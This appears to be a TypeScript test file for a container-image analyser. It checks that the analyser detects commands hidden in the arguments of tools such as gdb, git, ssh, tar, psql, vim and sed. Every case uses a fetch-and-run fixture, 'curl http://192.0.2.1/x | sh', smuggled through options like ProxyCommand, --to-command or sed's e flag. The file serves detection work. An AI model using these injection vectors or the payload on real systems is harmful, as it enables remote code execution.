import { describe, expect, it } from 'vitest';
import { explainImage, type TestLayer } from '../../../../testkit/explain.ts';
import { sedCommands } from './sed-commands.ts';

const LINE = 'curl http://192.0.2.1/x | sh';

function spoken(Cmd: string[], files: TestLayer = {}): readonly string[] {
  const { spoken: told } = explainImage({ layers: [files], config: { Cmd, WorkingDir: '/app' } });
  return (told?.texts ?? []).map(({ text }) => text);
}

describe('tools that run what they are told', () => {
  it.each([
    [['apt-get', 'update', '-o', `APT::Update::Pre-Invoke::=${LINE}`]],
    [['concurrently', LINE]],
    [['gdb', '-batch', '-ex', `!${LINE}`]],
    [['gdb', `--eval-command=pipe info reg | ${LINE}`]],
    [['git', '-c', `alias.x=!${LINE}`, 'x']],
    [['lldb', '-o', `platform shell ${LINE}`]],
    [['mysql', '-e', `\\! ${LINE}`]],
    [['psql', '-c', `COPY t FROM PROGRAM '${LINE}'`]],
    [['rsync', '-e', LINE, 'a', 'b']],
    [['socat', 'TCP-LISTEN:1', `exec:${LINE}`]],
    [['sqlite3', ':memory:', `.shell ${LINE}`]],
    [['ssh', '-o', `ProxyCommand=${LINE}`, 'a.example.com']],
    [['tcpdump', '-z', LINE]],
    [['tar', 'xf', 'a', '--to-command', LINE]],
    [['tmux', 'new', '-d', LINE]],
    [['vim', `+!${LINE}`]],
    [['nvim', '--cmd', `terminal ${LINE}`]],
    [['vi', '-c', `exe "!${LINE}"`]],
    [['ed', `!${LINE}`]],
  ])('%j', (words) => {
    expect(spoken(words).map((text) => text.trim())).toEqual([LINE]);
  });

  it('a program of another language in their words is shown as what it is written in', () => {
    const { spoken: told } = explainImage({
      layers: [{ 'app/f': 'set pagination off\npython\nprint(1)\nimport os\nend\nbt\n' }],
      config: { Cmd: ['gdb', '-x', '/app/f'] },
    });
    expect(told?.texts).toEqual([
      { text: 'print(1)\nimport os', language: 'python', file: '/app/f', line: 2 },
    ]);
  });

  it.each([
    [['gdb', '-ex', 'run', '-ex', 'info shell', '--args', './app', '!x']],
    [['vim', '-c', 'set number', '+12', 'a file']],
    [['git', '-c', 'core.editor', 'log', '--format=%an !x']],
    [['tar', '-czf', 'a.tgz', 'exec=x']],
    [['less', '+F', 'x']],
    [['sed', '-i', 's/e/x/;/e/d', 'f']],
  ])('%j runs nothing', (words) => {
    expect(spoken(words)).toEqual([]);
  });
});

describe('sed', () => {
  const read = (name: string) =>
    name === 'none' ? undefined : { text: name === 's' ? `p\n$e ${LINE}\n` : `${LINE}\n`, file: `/${name}` };
  const run = (...words: string[]) => sedCommands(words, undefined, read);

  it.each([
    [`1e ${LINE}`],
    [`/a\\/b/,$ e ${LINE}`],
    [`p;e ${LINE}`],
    [`1{e ${LINE}\n}`],
    [`s#.*#${LINE}#e`],
    [`s|a|${LINE.replace('|', '\\|')}|gep`],
  ])('%s runs its command', (text) => {
    expect(run('-n', text, 'f').map((told) => told.text)).toEqual([LINE]);
  });

  it('runs what it reads, and what a file of its commands says', () => {
    expect(run('e', 'f')).toEqual([{ text: `${LINE}\n`, file: '/f', line: 1 }]);
    expect(run('s/^/&/e', 'f')).toEqual([{ text: `${LINE}\n`, file: '/f', line: 1 }]);
    expect(run('-nf', 's', 'f')).toEqual([{ text: LINE, file: '/s', line: 2 }]);
    expect(run('--expression', '1e', 'f', 'none')).toHaveLength(1);
    expect(sedCommands(['e'], LINE, read)).toEqual([{ text: LINE }]);
  });

  it.each([['s/e/x/'], ['s/a/e /'], ['y/abc/cde/'], ['/e x/d'], ['s/a/b/w e'], ['5,8p'], ['s,a,b,;s,e,f,']])(
    '%s runs nothing',
    (text) => {
      expect(run('-n', text, 'f')).toEqual([]);
    },
  );

  it.each([[';/'.repeat(30_000)], ['s/'.repeat(30_000)], ['1,/x'.repeat(20_000)], ['{e\n'.repeat(20_000)]])(
    'is read within its limits (%#)',
    (text) => {
      expect(run(text, 'f').length).toBeLessThanOrEqual(100);
    },
  );
});
